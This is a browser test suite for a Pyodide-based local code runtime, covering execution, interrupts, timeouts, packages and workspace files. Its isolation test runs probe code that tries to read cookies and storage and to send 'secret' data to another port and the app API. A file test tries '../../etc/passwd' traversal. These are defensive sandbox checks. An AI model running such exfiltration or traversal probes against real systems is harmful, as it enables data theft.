// Over 300 lines: the local runtime's cases share one booted Pyodide frame, which is slow to start.
// Local mode's runtime (/local/runtime.html: Pyodide in a worker inside an opaque-origin frame)
// in Debian's Chromium, driven through its postMessage protocol from a test host page on the
// app's origin. No Docker needed: this is the browser's own interpreter.
//
// The wheel test writes into the server's wheelhouse: CODEINTERP_WHEELHOUSE, or
// $CODEINTERP_DATA_DIR/wheelhouse (the server's default), must name it.
import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { launch, openRuntime, run, BASE_URL, HOST_PATH, textOf, finishedOf, errorOf, resultOf } from '../local-runtime.js';

const WHEELHOUSE = process.env.CODEINTERP_WHEELHOUSE
  || (process.env.CODEINTERP_DATA_DIR ? join(process.env.CODEINTERP_DATA_DIR, 'wheelhouse') : null);

let browser;
let shared; // one isolated runtime for the tests that do not need a fresh one
before(async () => {
  browser = await launch();
  shared = await openRuntime(browser, { isolated: true });
});
after(async () => { await browser?.close(); });

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const types = (events) => events.map((e) => e.type);

/** Each execute has exactly one started (first) and one finished (last). */
function assertFramed(events) {
  const t = types(events);
  assert.equal(t[0], 'started', `first event of ${JSON.stringify(t)}`);
  assert.equal(t.at(-1), 'finished', `last event of ${JSON.stringify(t)}`);
  assert.equal(t.filter((x) => x === 'started').length, 1);
  assert.equal(t.filter((x) => x === 'finished').length, 1);
}

describe('the runner in the browser', () => {
  test('1+1 shows 2, state persists across cells, execution_count counts', async () => {
    const { page } = shared;
    let events = await run(page, '1+1');
    assertFramed(events);
    assert.equal(resultOf(events).data['text/plain'], '2');
    assert.equal(finishedOf(events).status, 'ok');
    const first = finishedOf(events).execution_count;

    await run(page, 'x = 41');
    events = await run(page, 'x + 1');
    assert.equal(resultOf(events).data['text/plain'], '42');
    assert.equal(resultOf(events).execution_count, first + 2);
    assert.equal(finishedOf(events).execution_count, first + 2);
  });

  test('print streams stdout and stderr in order, fd-level writes too; None is not shown', async () => {
    const events = await run(shared.page, "import os, sys\nprint('hello')\nprint('oops', file=sys.stderr)\n"
      + "os.write(1, b'fd one\\n')\nos.write(2, 'fd two \\u00e9\\n'.encode())\nNone");
    assertFramed(events);
    assert.equal(textOf(events, 'stdout'), 'hello\nfd one\n');
    assert.equal(textOf(events, 'stderr'), 'oops\nfd two \u00e9\n');
    assert.equal(resultOf(events), undefined);
  });

  test('errors carry ename, evalue and the user frames; a SyntaxError says where', async () => {
    let events = await run(shared.page, 'def f():\n    return 1/0\nf()');
    assertFramed(events);
    const error = errorOf(events);
    assert.equal(error.ename, 'ZeroDivisionError');
    assert.match(error.evalue, /division by zero/);
    assert.ok(error.traceback.some((line) => line.includes('<cell-')));
    assert.ok(!error.traceback.some((line) => /codeinterp_runner|pyodide_host/.test(line)), error.traceback.join('\n'));
    assert.equal(finishedOf(events).status, 'error');

    events = await run(shared.page, 'print(2 +');
    assert.equal(errorOf(events).ename, 'SyntaxError');
    assert.match(errorOf(events).evalue, /line 1/);
  });

  test('rich display: _repr_html_ and display()', async () => {
    const events = await run(shared.page, "class T:\n    def _repr_html_(self): return '<b>t</b>'\ndisplay(T())\nT()");
    const display = events.find((e) => e.type === 'display_data');
    assert.equal(display.data['text/html'], '<b>t</b>');
    assert.equal(resultOf(events).data['text/html'], '<b>t</b>');
  });

  test('the output cap truncates text once; a chatty loop is paced, its text complete', async () => {
    let events = await run(shared.page, "print('x' * 5000)", { maxOutputBytes: 1000 });
    assert.equal(Buffer.byteLength(textOf(events)), 1000);
    assert.equal(events.filter((e) => e.type === 'truncated').length, 1);
    assert.equal(events.find((e) => e.type === 'truncated').limit_bytes, 1000);

    events = await run(shared.page, 'for i in range(50000):\n    print(i)');
    const expected = Array.from({ length: 50000 }, (_, i) => `${i}\n`).join('');
    assert.equal(textOf(events), expected);
    const streams = events.filter((e) => e.type === 'stream').length;
    assert.ok(streams < 1000, `${streams} stream events for 50,000 lines`);
  });

  test('a line printed before a long sleep arrives while the cell still runs', async () => {
    const { page } = shared;
    const id = await page.evaluate(() => rt.start("import time\nprint('a')\nprint('b')\ntime.sleep(1.5)\nprint('c')"));
    const begun = Date.now();
    await page.evaluate((cellId) => rt.wait((m) => m.type === 'runner' && m.event.id === cellId
      && m.event.type === 'stream' && m.event.text.includes('b')), id);
    assert.ok(Date.now() - begun < 1000, `line b after ${Date.now() - begun} ms`);
    const events = await page.evaluate((cellId) => rt.collect(cellId), id);
    assert.equal(textOf(events), 'a\nb\nc\n');
  });
});

describe('isolation: code cannot reach the app, its origin or the network', () => {
  let other; // a server on another local port: no request may reach it
  let otherHits = 0;
  before(async () => {
    other = createServer((req, res) => { otherHits++; res.setHeader('Access-Control-Allow-Origin', '*'); res.end('leak'); });
    other.on('upgrade', (req, socket) => { otherHits++; socket.destroy(); });
    await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
  });
  after(() => other?.close());

  test('hostile code sees an opaque sandbox and every probe fails', async () => {
    const { context, page, requests } = shared;
    let apiHits = 0; // requests for our API that got past the browser's checks to the network
    const countApi = (route) => { apiHits++; return route.continue(); };
    await context.route(`${BASE_URL}/api/**`, countApi);
    const otherUrl = `http://127.0.0.1:${other.address().port}`;
    const before = requests.length;
    const probes = `
import js
from pyodide.ffi import create_proxy, to_js
ORIGIN, OTHER = ${JSON.stringify(BASE_URL)}, ${JSON.stringify(otherUrl)}
outcomes = {}
def probe(name, f):
    try:
        outcomes[name] = 'ALLOWED: ' + repr(f())[:120]
    except BaseException as e:
        outcomes[name] = 'blocked: ' + type(e).__name__
def xhr(url, method='GET', credentials=False):
    r = js.XMLHttpRequest.new()
    r.open(method, url, False)
    r.withCredentials = credentials
    r.send('secret')
    return r.status, r.responseText[:60]
probe('document.cookie', lambda: js.document.cookie)
probe('parent.document', lambda: js.parent.document)
probe('top.location', lambda: js.top.location.href)
probe('localStorage', lambda: js.localStorage.getItem('k'))
probe('sessionStorage', lambda: js.sessionStorage.getItem('k'))
probe('indexedDB', lambda: js.indexedDB.open('probe'))
probe('caches', lambda: js.caches.keys())
probe('eval', lambda: js.eval('1 + 1'))
probe('importScripts', lambda: js.importScripts(OTHER + '/x.js'))
probe('real importScripts', lambda: js.WorkerGlobalScope.prototype.importScripts.call(js.self, OTHER + '/x.js'))
probe('dynamic import', lambda: js.Function.new('return import("' + OTHER + '/x.mjs")'))
probe('xhr api with credentials', lambda: xhr(ORIGIN + '/api/v1/sessions', 'POST', True))
probe('xhr api relative', lambda: xhr('/api/v1/sessions'))
probe('xhr example.invalid', lambda: xhr('http://example.invalid/'))
probe('xhr other port', lambda: xhr(OTHER + '/leak?data=secret'))
fetched = {}  # outcomes that arrive later, as events
def via_events(name, make):
    # CSP refuses a WebSocket or EventSource with an error event, not an exception
    try:
        source = make()
    except BaseException as e:
        fetched[name] = 'blocked: ' + type(e).__name__
        return
    def opened(event):
        fetched[name] = 'ALLOWED: open'
    def failed(event):
        fetched.setdefault(name, 'blocked: ' + event.type)
    source.onopen = create_proxy(opened)
    source.onerror = create_proxy(failed)
via_events('websocket other port', lambda: js.WebSocket.new(OTHER.replace('http', 'ws') + '/ws'))
via_events('websocket own origin', lambda: js.WebSocket.new(ORIGIN.replace('http', 'ws') + '/api/v1/sessions/x/ws'))
via_events('eventsource other port', lambda: js.EventSource.new(OTHER + '/events'))
def via_fetch(name, url, **init):
    def ok(response):
        fetched[name] = 'ALLOWED: status %s' % response.status
    def failed(error):
        fetched[name] = 'blocked: ' + str(error)[:60]
    try:
        js.fetch(url, to_js(init, dict_converter=js.Object.fromEntries)).then(ok, failed)
    except BaseException as e:
        fetched[name] = 'blocked: ' + type(e).__name__
via_fetch('fetch api with credentials', ORIGIN + '/api/v1/sessions', method='POST', credentials='include', body='secret')
via_fetch('fetch api get', ORIGIN + '/api/v1/sessions')
via_fetch('fetch other port', OTHER + '/leak?data=secret', mode='no-cors')
via_fetch('fetch example.invalid', 'https://example.invalid/')
print(js.self.origin)
`;
    let events = await run(page, probes);
    assert.equal(finishedOf(events).status, 'ok', JSON.stringify(errorOf(events)));
    assert.equal(textOf(events), 'null\n', 'the worker runs in an opaque origin');
    await sleep(1500); // the fetches settle between cells
    events = await run(page, 'import json\nprint(json.dumps({**outcomes, **fetched}))');
    const outcomes = JSON.parse(textOf(events));
    assert.equal(Object.keys(outcomes).length, 22, JSON.stringify(outcomes));
    for (const [name, outcome] of Object.entries(outcomes)) {
      assert.match(outcome, /^blocked/, `${name}: ${outcome}`);
    }
    await context.unroute(`${BASE_URL}/api/**`, countApi);
    assert.equal(otherHits, 0, 'nothing reached the other local port');
    assert.equal(apiHits, 0, "nothing reached the app's API");
    // Chromium reports the requests the CSP refused too: each must have failed with 'csp'.
    for (const r of requests.slice(before)) {
      assert.equal(r.failure, 'csp', `${r.method} ${r.url} left the browser`);
    }
  });

  test('zero egress: a runtime session makes only GETs of our own static assets', async () => {
    const { context, page, requests } = await openRuntime(browser, { isolated: true });
    try {
      const loaded = requests.length;
      await run(page, "secret = 'hunter2'\nprint(secret)");
      await run(page, 'sum(range(10**5))');
      await run(page, "open('notes.txt', 'w').write(secret)");
      await run(page, 'import json, math, statistics, re, collections\nstatistics.mean([1, 2, 3])');
      await sleep(300);
      assert.deepEqual(requests.slice(loaded), [], 'running cells makes no requests at all');
      const allowed = new RegExp(`^${BASE_URL.replace(/[.]/g, '\\.')}(${HOST_PATH}|/local/runtime\\.html|/local/[0-9a-f]{16}/|/pyodide/)`);
      for (const r of requests) {
        assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
        assert.match(r.url, allowed);
      }
      assert.equal(bigAssetRequests(requests), 2, 'the app fetched the wasm and the stdlib, once each');
    } finally {
      await context.close();
    }
  });
});

describe('interrupts, timeouts and runaway code', () => {
  test('cross-origin isolated: interrupt stops while True: pass within 1 s and keeps state', async () => {
    // A runtime of its own: callbacks left pending by earlier tests' probes must not take the SIGINT
    const { context, page, ready } = await openRuntime(browser, { isolated: true });
    try {
      assert.equal(ready.isolated, true, 'the isolated host gives the frame a SharedArrayBuffer');
      await run(page, 'kept = 41');
      const stopped = await interruptLoop(page, 'while True: pass');
      assert.ok(stopped.ms < 1000, `stopped after ${stopped.ms} ms`);
      assert.equal(finishedOf(stopped.events).status, 'interrupted');
      assert.equal(errorOf(stopped.events)?.ename, 'KeyboardInterrupt', JSON.stringify(stopped.events));
      assert.equal(stopped.resets, 0, 'no reset: the interpreter was kept');
      assert.equal(resultOf(await run(page, 'kept + 1')).data['text/plain'], '42');
    } finally {
      await context.close();
    }
  });

  test('interrupts in fresh runtimes each raise KeyboardInterrupt and keep the interpreter', async () => {
    // Pyodide drops about 1 in 25 SIGINTs it takes from the buffer, most often a fresh runtime's
    // first: the frame sends it again, so none of these may end in a replaced worker
    for (let i = 0; i < 8; i++) {
      const { context, page } = await openRuntime(browser, { isolated: true });
      try {
        await run(page, 'kept = 41');
        for (let j = 0; j < 2; j++) {
          const stopped = await interruptLoop(page, 'while True: pass');
          const which = `runtime ${i + 1}, interrupt ${j + 1}`;
          assert.equal(errorOf(stopped.events)?.ename, 'KeyboardInterrupt', `${which}: ${JSON.stringify(stopped.events)}`);
          assert.equal(stopped.resets, 0, `${which} kept the interpreter`);
        }
        assert.equal(resultOf(await run(page, 'kept + 1')).data['text/plain'], '42');
      } finally {
        await context.close();
      }
    }
  });

  test("a cell stuck in C ignores SIGINT: the worker is replaced after the server's grace period and says so", async () => {
    // the grace is the server's CODEINTERP_INTERRUPT_GRACE, given to the frame with its page
    const html = await (await fetch(BASE_URL + '/local/runtime.html')).text();
    const graceMs = JSON.parse(html.match(/<script type="application\/json" id="config">([^<]*)<\/script>/)[1]).interruptGraceMs;
    assert.ok(Number.isInteger(graceMs) && graceMs > 0, `interruptGraceMs ${graceMs}`);
    const { context, page } = await openRuntime(browser, { isolated: true });
    try {
      await run(page, 'kept = 41');
      const stopped = await interruptLoop(page, 'sum(range(10**15))');
      assert.ok(stopped.ms >= graceMs - 100 && stopped.ms < graceMs + 1000, `stopped after ${stopped.ms} ms, grace ${graceMs} ms`);
      assertFramed(stopped.events);
      assert.equal(finishedOf(stopped.events).status, 'interrupted');
      assert.equal(stopped.events.find((e) => e.type === 'restarted')?.reason,
        `the cell did not stop within ${graceMs / 1000} s of being interrupted, so the interpreter was restarted`);
      assert.equal(stopped.resets, 1);
      await afterAnyReset(page);
      assert.equal(errorOf(await run(page, 'kept')).ename, 'NameError', 'state was lost with the worker');
      assert.equal(resultOf(await run(page, '1+1')).data['text/plain'], '2');
    } finally {
      await context.close();
    }
  });

  test('not isolated: interrupt replaces the worker within 1 s; state is lost, the next cell runs', async () => {
    // the frame fetches the big files itself here (no #assets=parent), once for all its workers
    const { context, page, ready, requests } = await openRuntime(browser, { isolated: false, parentAssets: false });
    try {
      assert.equal(ready.isolated, false);
      await run(page, 'kept = 41');
      const stopped = await interruptLoop(page, 'while True: pass');
      assert.ok(stopped.ms < 1000, `stopped after ${stopped.ms} ms`);
      assertFramed(stopped.events);
      assert.equal(finishedOf(stopped.events).status, 'interrupted');
      assert.equal(stopped.resets, 1);
      const events = await run(page, 'kept');
      assert.equal(errorOf(events).ename, 'NameError');
      assert.equal(resultOf(await run(page, '1+1')).data['text/plain'], '2');
      assert.equal(bigAssetRequests(requests), 2, 'the new worker got the frame\'s copies');
    } finally {
      await context.close();
    }
  });

  test('the per-cell timeout ends a cell with status timeout and a TimeoutError; ready says the default and the most', async () => {
    const { page, ready } = shared;
    const { limits } = await (await fetch(BASE_URL + '/healthz')).json();
    assert.deepEqual([ready.timeoutMs, ready.maxTimeoutMs], [limits.timeout_ms, limits.max_timeout_ms],
      'the server\'s own settings, so the app offers the same steps in both modes');
    await run(page, 'kept_too = 1');
    const events = await run(page, 'while True: pass', { timeoutMs: 500 });
    assertFramed(events);
    assert.equal(finishedOf(events).status, 'timeout');
    assert.equal(errorOf(events).ename, 'TimeoutError');
    assert.equal(resultOf(await run(page, 'kept_too')).data['text/plain'], '1');
  });

  test('runaway allocation: errors inside Python, the tab stays responsive, the next cell runs', async () => {
    const { context, page } = await openRuntime(browser, { isolated: true });
    try {
      let events = await run(page, 'x = bytearray(10**10)');
      assertFramed(events);
      assert.match(errorOf(events).ename, /MemoryError|OverflowError/);

      const id = await page.evaluate(() => rt.start("l = []\nwhile True: l.append(' ' * 10**7)", { timeoutMs: 120000 }));
      let slowest = 0;
      let done = false;
      const finishedPromise = page.evaluate((cellId) => rt.collect(cellId, 120000), id).then((e) => { done = true; return e; });
      while (!done) {
        const begun = Date.now();
        await page.evaluate(() => document.body.childElementCount);
        slowest = Math.max(slowest, Date.now() - begun);
        await sleep(200);
      }
      events = await finishedPromise;
      assertFramed(events);
      assert.ok(slowest < 500, `the page answered within ${slowest} ms while the cell allocated`);
      const status = finishedOf(events).status;
      assert.ok(['error', 'oom'].includes(status), status);
      await afterAnyReset(page);
      assert.equal(resultOf(await run(page, 'l = None\n1+1')).data['text/plain'], '2');
    } finally {
      await context.close();
    }
  });

  test('restart gives a fresh interpreter: a running cell ends interrupted; what was sent meanwhile runs after ready', async () => {
    const { context, page } = await openRuntime(browser, { isolated: true });
    try {
      await run(page, 'gone = 1');
      const [id, from] = await page.evaluate(async () => {
        const cellId = rt.start('while True: pass');
        await rt.wait((m) => m.type === 'runner' && m.event.id === cellId && m.event.type === 'started');
        return [cellId, rt.messages.length];
      });
      const after = await page.evaluate(async ([cellId, i]) => {
        rt.send({ type: 'restart' });
        const next = rt.start('1+1'); // sent before the new interpreter is ready: queued
        const stopped = await rt.collect(cellId, 10000);
        const nextEvents = await rt.collect(next, 60000);
        return { stopped, nextEvents, kinds: rt.messages.slice(i).map((m) => m.type) };
      }, [id, from]);
      assertFramed(after.stopped);
      assert.equal(finishedOf(after.stopped).status, 'interrupted');
      assert.ok(after.stopped.some((e) => e.type === 'restarted'));
      assert.equal(resultOf(after.nextEvents).data['text/plain'], '2');
      assert.equal(finishedOf(after.nextEvents).execution_count, 1, 'the fresh interpreter counts from 1');
      const { kinds } = after;
      assert.ok(kinds.indexOf('reset') >= 0 && kinds.indexOf('reset') < kinds.indexOf('ready'), kinds.join(' '));
      assert.ok(!kinds.includes('fetchAssets'), 'the frame keeps the big files for the next worker');
      assert.equal(errorOf(await run(page, 'gone')).ename, 'NameError');
    } finally {
      await context.close();
    }
  });
});

/** How many times the wasm binary and the standard library were requested. */
const bigAssetRequests = (requests) => requests.filter((r) => /\/(pyodide\.asm\.wasm|python_stdlib\.zip)$/.test(r.url)).length;

/** Waits for the interpreter that replaced the last one, if one was replaced. */
async function afterAnyReset(page) {
  await page.evaluate(() => {
    const reset = rt.messages.findLastIndex((m) => m.type === 'reset');
    return reset < 0 ? null : rt.wait((m) => m.type === 'ready', 60000, reset);
  });
}

/** Starts `code`, interrupts it once it runs; how long the interrupt took to finish the cell. */
async function interruptLoop(page, code) {
  const id = await page.evaluate((c) => rt.start(c), code);
  await page.evaluate((cellId) => rt.wait((m) => m.type === 'runner' && m.event.id === cellId && m.event.type === 'started'), id);
  await sleep(300);
  const from = await page.evaluate(() => rt.messages.length);
  const result = await page.evaluate(async ([cellId, i]) => {
    const begun = performance.now();
    rt.send({ type: 'interrupt' });
    const events = await rt.collect(cellId, 10000);
    const finished = rt.messages.find((m) => m.type === 'runner' && m.event.id === cellId && m.event.type === 'finished');
    return { events, ms: Math.round(finished.at - begun), resets: rt.messages.slice(i).filter((m) => m.type === 'reset').length };
  }, [id, from]);
  return result;
}

describe('packages', () => {
  test('a pure-Python wheel placed in the wheelhouse imports and runs', async () => {
    assert.ok(WHEELHOUSE, "set CODEINTERP_DATA_DIR (or CODEINTERP_WHEELHOUSE) to the server's: this test writes a wheel there");
    mkdirSync(WHEELHOUSE, { recursive: true });
    const wheel = join(WHEELHOUSE, 'codeinterp_wheel_probe-1.0-py3-none-any.whl');
    buildWheel(wheel, 'codeinterp_wheel_probe', "def hello():\n    return 'hello from the wheelhouse'\n");
    try {
      const events = await run(shared.page, 'import codeinterp_wheel_probe\ncodeinterp_wheel_probe.hello()');
      assert.equal(finishedOf(events).status, 'ok', JSON.stringify(events));
      assert.equal(resultOf(events).data['text/plain'], "'hello from the wheelhouse'");
    } finally {
      rmSync(wheel, { force: true });
    }
  });

  test('a missing package says so and suggests server mode', async () => {
    const events = await run(shared.page, 'import numpy');
    assertFramed(events);
    assert.match(textOf(events, 'stderr'), /^numpy is not available in local mode: .*Server mode/s);
    assert.equal(errorOf(events).ename, 'ModuleNotFoundError');
    // the note comes first, right after started
    assert.deepEqual(types(events).slice(0, 2), ['started', 'stream']);
  });
});

describe('workspace files', () => {
  test('write, list, read and delete; a file written by a cell is an artifact before finished', async () => {
    const { page } = shared;
    const written = await page.evaluate(() => rt.request({ type: 'writeFile', name: 'data.csv', bytes: new TextEncoder().encode('a,b\n1,2\n').buffer }));
    assert.equal(written.type, 'fileWritten');
    assert.equal(written.size, 8);

    const events = await run(page, "import csv\nrows = list(csv.reader(open('data.csv')))\nopen('out.txt', 'w').write(str(len(rows)))\nrows[1]");
    assert.equal(resultOf(events).data['text/plain'], "['1', '2']");
    const artifact = events.find((e) => e.type === 'artifact');
    assert.deepEqual({ ...artifact }, { type: 'artifact', id: artifact.id, name: 'out.txt', size: 1, mime: 'text/plain', url: '' });
    assert.equal(types(events).indexOf('artifact'), types(events).length - 2, 'artifact comes right before finished');
    assert.equal(events.filter((e) => e.type === 'artifact').length, 1, 'only the changed file');

    const listed = await page.evaluate(() => rt.request({ type: 'listFiles' }));
    const byName = Object.fromEntries(listed.files.map((f) => [f.name, f]));
    assert.equal(byName['data.csv'].size, 8);
    assert.equal(byName['data.csv'].mime, 'text/csv');
    assert.ok(Math.abs(byName['out.txt'].modified - Date.now()) < 60000, 'modified is in ms');

    const content = await page.evaluate(async () => {
      const r = await rt.request({ type: 'readFile', name: 'out.txt' });
      return { type: r.type, mime: r.mime, text: new TextDecoder().decode(r.bytes) };
    });
    assert.deepEqual(content, { type: 'fileContent', mime: 'text/plain', text: '2' });

    assert.equal((await page.evaluate(() => rt.request({ type: 'deleteFile', name: 'out.txt' }))).type, 'fileDeleted');
    const after = await page.evaluate(() => rt.request({ type: 'listFiles' }));
    assert.ok(!after.files.some((f) => f.name === 'out.txt'));
  });

  test('names must be one plain segment', async () => {
    for (const name of ['../escape', 'a/b', 'a\\b', '', '..', 'bad\u0000name', 'tab\tname']) {
      const reply = await shared.page.evaluate((n) => rt.request({ type: 'writeFile', name: n, bytes: new ArrayBuffer(1) }), name);
      assert.equal(reply.type, 'fileError', `writeFile ${JSON.stringify(name)}`);
      assert.ok(reply.message.length > 0);
    }
    const read = await shared.page.evaluate(() => rt.request({ type: 'readFile', name: '../../etc/passwd' }));
    assert.equal(read.type, 'fileError');
    const missing = await shared.page.evaluate(() => rt.request({ type: 'readFile', name: 'no-such-file' }));
    assert.equal(missing.type, 'fileError');
  });

  test('workspace files survive a reset: uploads and files written by earlier cells', async () => {
    const { context, page } = await openRuntime(browser, { isolated: false });
    try {
      await page.evaluate(() => rt.request({ type: 'writeFile', name: 'upload.txt', bytes: new TextEncoder().encode('up').buffer }));
      await run(page, "open('made.txt', 'w').write('made')");
      await interruptLoop(page, 'while True: pass'); // not isolated: the worker is replaced
      await afterAnyReset(page);
      const events = await run(page, "open('upload.txt').read() + open('made.txt').read()");
      assert.equal(resultOf(events).data['text/plain'], "'upmade'");
    } finally {
      await context.close();
    }
  });
});

describe('failure to load', () => {
  test('connections dropped while Python loads are tried again: the runtime becomes ready and runs cells', async () => {
    const context = await browser.newContext();
    try {
      // as Chromium does to requests in flight when a network interface comes or goes (ERR_NETWORK_CHANGED)
      let dropped = 0;
      await context.route(/\/local\/[0-9a-f]+\/(python-sources\.json|worker\.mjs)$/, (route) => {
        if (dropped < 2) {
          dropped++;
          return route.abort('connectionreset');
        }
        return route.continue();
      });
      const { page } = await openRuntime(browser, { context, waitReady: false });
      const end = await page.evaluate(() => rt.wait((m) => m.type === 'fatal' || m.type === 'ready', 60000));
      assert.equal(end.type, 'ready', JSON.stringify(end));
      assert.equal(dropped, 2);
      const retries = await page.evaluate(() => rt.messages.filter((m) => m.type === 'loading' && /again/.test(m.message)).map((m) => m.message));
      assert.equal(retries.length, 2, JSON.stringify(retries));
      const events = await run(page, '6 * 7');
      assert.equal(resultOf(events).data['text/plain'], '42');
    } finally {
      await context.close();
    }
  });

  test('a missing Pyodide asset gives a readable fatal message, and executes still finish', async () => {
    const context = await browser.newContext();
    try {
      await context.route(/\/pyodide\/.*\/pyodide\.asm\.wasm$/, (route) => route.fulfill({ status: 404, body: 'gone' }));
      const { page } = await openRuntime(browser, { context, waitReady: false });
      const fatal = await page.evaluate(() => rt.wait((m) => m.type === 'fatal' || m.type === 'ready', 60000));
      assert.equal(fatal.type, 'fatal');
      assert.match(fatal.message, /Python could not be loaded.*\(tried 3 times\)$/);
      const events = await run(page, '1+1');
      assertFramed(events);
      assert.equal(finishedOf(events).status, 'error');
    } finally {
      await context.close();
    }
  });
});

/** A wheel is a zip: the package, and dist-info with METADATA, WHEEL and RECORD. */
function buildWheel(path, name, source) {
  execFileSync('python3', ['-c', `
import sys, zipfile
path, name, source = sys.argv[1:4]
info = f'{name}-1.0.dist-info'
with zipfile.ZipFile(path, 'w') as z:
    z.writestr(f'{name}/__init__.py', source)
    z.writestr(f'{info}/METADATA', f'Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n')
    z.writestr(f'{info}/WHEEL', 'Wheel-Version: 1.0\\nGenerator: codeinterp-test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
    z.writestr(f'{info}/RECORD', f'{name}/__init__.py,,\\n{info}/METADATA,,\\n{info}/WHEEL,,\\n{info}/RECORD,,\\n')
`, path, name, source]);
}
